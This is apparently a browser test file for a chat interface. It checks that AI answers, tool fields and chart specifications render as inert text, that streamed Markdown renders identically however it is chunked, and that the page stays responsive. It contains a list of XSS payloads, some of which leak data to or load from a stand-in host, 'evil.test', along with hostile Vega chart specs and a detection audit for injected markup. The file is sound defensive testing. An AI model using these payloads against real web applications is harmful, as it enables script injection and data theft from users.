// Nothing that a model, a tool or another user sends becomes markup, script or a request; and the
// rendered answer depends on its text alone, however it was cut into chunks.

import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { Gateway, gate } from '../mock_gateway.mjs';
import { answerEvents, kAnswer } from '../scenario.mjs';
import { ask, launch, openPage, settled } from './chromium.mjs';

const kVendor = process.env.MR_VENDOR || null;
let chrome;
before(async () => (chrome = await launch()));
after(() => chrome.close());

async function stage(t, options = {}) {
  const gateway = await new Gateway({ vendor: kVendor, ...options.gateway }).start();
  const page = await openPage(chrome.browser, gateway.url, { allowed: options.allowed ?? [] });
  t.after(() => page.finish().finally(() => gateway.stop()));
  await page.locator('.link-state[data-state="online"]').waitFor();
  return { gateway, page };
}

const kAttacks = [
  '<img src=x onerror="window.pwned=1">',
  '<script>window.pwned=1</script>',
  '<svg onload=window.pwned=1><script>window.pwned=1</script></svg>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<a href="javascript:window.pwned=1">x</a>',
  '[click](javascript:window.pwned=1)',
  '[click](JaVaScRiPt:window.pwned=1)',
  '[click](&#106;avascript:window.pwned=1)',
  '[click](java\tscript:window.pwned=1)',
  '[click](data:text/html,<script>parent.pwned=1</script>)',
  '[click](vbscript:x)',
  '<javascript:window.pwned=1>',
  '![leak](https://evil.test/leak?secret)',
  '![x](x "onerror=window.pwned=1")',
  '[a]: javascript:window.pwned=1\n\n[a]',
  '<math><mtext></math><img src=x onerror=window.pwned=1>',
  '<style>@import "https://evil.test/x.css";</style>',
  '<link rel=stylesheet href=https://evil.test/x.css>',
  '<base href=https://evil.test/>',
  '<meta http-equiv=refresh content="0;url=https://evil.test/">',
  '<form action=https://evil.test><input name=a><button>x</button></form>',
  '"><img src=x onerror=window.pwned=1>',
  '`<img src=x onerror=window.pwned=1>`',
  '```html\n<img src=x onerror=window.pwned=1>\n```',
  '```"><img/onerror=window.pwned=1/src=x>\ncode\n```',
  '| <img src=x onerror=window.pwned=1> | b |\n|---|---|\n| <b onclick=window.pwned=1>c</b> | [d](javascript:1) |',
  '<details open ontoggle=window.pwned=1>',
  '&lt;img src=x onerror=window.pwned=1&gt;',
  '<<img src=x onerror=window.pwned=1>>',
  `${'>'.repeat(3000)} deep`,
  `${'['.repeat(2000)}x${']'.repeat(2000)}(javascript:1)`,
  `${'*'.repeat(3000)}a`,
];

// What must be true of the transcript whatever was sent.
function audit(page) {
  return page.evaluate(() => {
    const bad = [];
    if (window.pwned) bad.push('script ran');
    const log = document.getElementById('log');
    for (const node of log.querySelectorAll('script, iframe, img, object, embed, style, link, base, meta, form, input, math, video, audio, foreignObject')) bad.push(`<${node.localName}>`);
    for (const node of log.querySelectorAll('*')) {
      for (const { name } of node.attributes) if (name.startsWith('on') || name === 'srcdoc' || name === 'style') bad.push(`${node.localName} ${name}`);
    }
    for (const link of log.querySelectorAll('a[href]')) {
      if (!/^https?:$/.test(link.protocol)) bad.push(link.href);
      if (link.target === '_blank' && !link.relList.contains('noopener')) bad.push(`opener ${link.href}`);
    }
    return bad;
  });
}

test('attacks in the text stay text', async (t) => {
  const { gateway, page } = await stage(t);
  gateway.script = (text) => answerEvents({ chunks: text === 'pieces' ? [...kAttacks.join('\n\n').slice(0, 4000)] : kAttacks.map((attack) => `${attack}\n\n`), chart: null });
  for (const question of ['whole', 'pieces']) {
    await ask(page, question);
    await settled(page, 'done');
    assert.deepEqual(await audit(page), [], question);
  }
  assert.ok((await page.locator('.answer').first().innerText()).includes('<script>window.pwned=1</script>'), 'shown as what it is');
});

test('attacks in every other field stay text', async (t) => {
  const { gateway, page } = await stage(t);
  for (const attack of kAttacks.slice(0, 24)) {
    const poison = (value) => {
      if (typeof value === 'string') return attack;
      if (Array.isArray(value)) return value.map(poison);
      if (value && typeof value === 'object') return Object.fromEntries(Object.entries(value).map(([key, entry]) => [key === 'month' ? attack.slice(0, 60) : key, poison(entry)]));
      return value;
    };
    const keep = ['type', 'status', 'phase', 'call_id', 'tool', 'chart_id', 'offset', 'text_length'];
    gateway.script = () =>
      answerEvents({ chunks: ['Text.'] }).map((event) => {
        const poisoned = Object.fromEntries(Object.entries(event).map(([key, value]) => [key, keep.includes(key) ? value : poison(value)]));
        if (event.type === 'chart') poisoned.spec = { ...event.spec, title: attack, encoding: { ...event.spec.encoding, color: { field: attack.slice(0, 60) } } };
        if (event.type === 'text_chunk') poisoned.content = event.content;
        return poisoned;
      });
    await ask(page, attack);
    await settled(page, 'done');
    await page.locator('.turn').last().locator('.tracker > summary').click();
    for (const summary of await page.locator('.turn').last().locator('.tool > summary').all()) await summary.click();
    await page.locator('.turn').last().locator('.tool-body > *').first().waitFor();
    assert.deepEqual(await audit(page), [], attack);
  }
});

test('a chart specification cannot load, link or run anything', { skip: !kVendor }, async (t) => {
  const { gateway, page } = await stage(t, { allowed: [/charts load nothing/] });
  const rows = [{ a: 'x', b: 1, u: 'javascript:window.pwned=1', i: 'https://evil.test/i.png' }, { a: 'y', b: 2, u: 'https://evil.test/', i: 'https://evil.test/j.png' }];
  const encoding = { x: { field: 'a', type: 'nominal' }, y: { field: 'b', type: 'quantitative' } };
  const specs = [
    { layer: [{ mark: 'bar', encoding: { ...encoding, href: { field: 'u' } } }, { mark: 'image', encoding: { ...encoding, url: { field: 'i' } } }] },
    { layer: [{ data: { url: 'https://evil.test/data.json' }, mark: 'bar', encoding }] },
    { layer: [{ mark: 'bar', encoding }], usermeta: { embedOptions: { actions: true, defaultStyle: '*{display:none}', loader: {} } } },
    { layer: [{ mark: 'bar', encoding }], transform: [{ calculate: 'window.pwned=1', as: 'z' }] },
    { layer: [{ mark: 'bar', encoding: { ...encoding, color: { condition: { test: 'constructor.constructor("window.pwned=1")()', value: 'red' }, value: 'blue' } } }] },
  ];
  for (const spec of specs) {
    gateway.script = () => answerEvents({ chunks: ['Text.'], chart: { type: 'chart', chart_id: 'c', title: 'Chart', rows, spec } });
    await ask(page, 'chart');
    await settled(page, 'done');
    await page.locator('.turn').last().locator('.stage[data-kind]').waitFor({ state: 'attached' });
    assert.equal(await page.evaluate(() => window.pwned), undefined);
    assert.equal(await page.locator('.turn').last().locator('a[href*="evil"], .vega-actions').count(), 0);
  }
});

// Documents whose blocks depend on what follows them: the places where incremental rendering errs.
const kDocuments = [
  kAnswer.join(''),
  '- a\n\n- b\n\n  more of b\n- c\n\nafter',
  '1. one\n2. two\n\n   still two\n\n10. ten\n\ntext\n\n7. seven',
  'Heading\n===\n\ntext\n---\n\nmore',
  'a | b\n--|--\n1 | 2\n3 | 4\n\nend',
  '> quote\ncontinued\n\n> - list in quote\n>   - nested\n\nend',
  '~~~\nfence ``` inside\n~~~\n\n    indented\n\n```js\nunclosed',
  'See [the docs][d] and <https://example.test/x>.\n\n[d]: https://example.test/docs "T"\n\nlast [d]',
  '**bold *both* bold** ~~gone~~ `code` a\\*b &amp; &#8364; line  \nbreak [1][2] [3, 4]',
  '* * *\n\n***\n\n- [x] done\n- [ ] open\n\n\n\n\nend\n',
  'tabs\n\n\tcode\n\n- list\r\n\r\nwindows line\r\n',
];

test('the rendered answer depends on its text alone', { skip: !kVendor }, async (t) => {
  const { page } = await stage(t);
  const failures = await page.evaluate(async (documents) => {
    const { loadMarked, MarkdownView } = await import('/markdown.js');
    const marked = await loadMarked();
    const view = () => {
      const made = new MarkdownView(document.createElement('div'), (n) => document.createTextNode(`[${n}]`));
      made.use(marked);
      return made;
    };
    let seed = 7;
    const random = () => (seed = (seed * 48271) % 2147483647) / 2147483647;
    const wrong = [];
    const words = (made) => made.root.textContent.replace(/\s+/g, '');
    for (const text of documents) {
      // While it streams, everything that has arrived is shown. Link definitions may change that
      // backwards, so their document is left to the comparison below.
      const growing = view();
      for (let at = 1; at <= text.length && !text.includes(']: '); at += 1) {
        growing.update(text.slice(0, at));
        const fresh = view();
        fresh.update(text.slice(0, at));
        if (words(growing) !== words(fresh)) wrong.push([text.slice(0, at), words(growing), words(fresh)]);
      }
    }
    for (const text of documents) {
      const whole = view();
      whole.update(text);
      whole.finish();
      const expected = whole.root.innerHTML;
      for (let round = 0; round < 60; round += 1) {
        const cut = view();
        const step = round === 0 ? 1 : 1 + Math.floor(random() * 12);
        for (let at = step; at < text.length; at += 1 + Math.floor(random() * step)) cut.update(text.slice(0, at));
        cut.update(text);
        cut.finish();
        if (cut.root.innerHTML !== expected) wrong.push([text, cut.root.innerHTML, expected]);
      }
    }
    return wrong.slice(0, 3);
  }, kDocuments);
  assert.deepEqual(failures, []);
});

test('structure of rendered Markdown', { skip: !kVendor }, async (t) => {
  const { gateway, page } = await stage(t);
  gateway.script = (text) => answerEvents({ chunks: [kDocuments[Number(text)]], chart: null });
  const table = [
    [1, 'ul > li', 3], [2, 'ol', 2], [2, 'ol[start="7"]', 1], [3, 'h4', 1], [4, 'table td', 4], [5, 'blockquote ul ul li', 1],
    [6, '.code', 3], [7, 'a[rel="noopener noreferrer"][href^="https://example.test/"]', 3], [8, 'strong em', 1], [8, 'del', 1], [8, '.citation', 4], [8, 'br', 1], [9, 'hr', 2], [10, '.code', 1],
  ];
  let asked = -1;
  for (const [document, selector, expected] of table) {
    if (document !== asked) {
      await ask(page, String(document));
      await settled(page, 'done');
      asked = document;
    }
    assert.equal(await page.locator('.turn').last().locator(`.answer ${selector}`).count(), expected, `${document} ${selector}`);
  }
});

test('without any library: text, plain charts and tables', async (t) => {
  const { gateway, page } = await stage(t, { gateway: { vendor: null }, allowed: [/404/] });
  const layered = { type: 'chart', chart_id: 'c2', title: 'Layered', rows: [{ a: 1, b: 2 }], spec: { layer: [{ mark: 'bar' }] } };
  gateway.script = () => answerEvents().flatMap((event) => (event.type === 'chart' ? [event, layered] : [event]));
  await ask(page, 'plain');
  await settled(page, 'done');
  await page.locator('.stage[data-kind="svg"]').waitFor();
  await page.locator('.chart-data table').waitFor();
  assert.equal(await page.locator('.stage[data-kind="none"]').count(), 1);
  assert.ok((await page.locator('.answer').innerText()).includes('**$392,500** is still open'));
  assert.deepEqual(await audit(page), []);
});

test('a very long answer keeps the page responsive', { skip: !kVendor }, async (t) => {
  const { gateway, page } = await stage(t);
  const words = Array.from({ length: 20_000 }, (_, n) => (n % 40 === 39 ? `word${n}.\n\n${n % 400 === 399 ? `- item ${n}\n- item\n\n` : ''}` : `word${n} `));
  gateway.script = () => [...answerEvents({ chunks: words, chart: null }).slice(0, -1), gate('end'), ...answerEvents({ chunks: words, chart: null }).slice(-1)];
  await page.evaluate(() => {
    window.longest = 0;
    window.tasks = 0;
    new PerformanceObserver((list) => list.getEntries().forEach((entry) => {
      window.tasks += 1;
      window.longest = Math.max(window.longest, entry.duration);
    })).observe({ type: 'longtask' });
  });
  await ask(page, 'long');
  gateway.open('end');
  await page.locator('.turn[data-status="done"]').waitFor({ timeout: 120_000 });
  const { longest, tasks, text } = await page.evaluate(() => ({ longest: window.longest, tasks: window.tasks, text: document.querySelector('.answer').innerText }));
  t.diagnostic(`20,000 chunks: ${tasks} tasks over 50 ms, longest ${longest} ms`);
  assert.ok(text.includes('word0') && text.includes('word19999'));
});
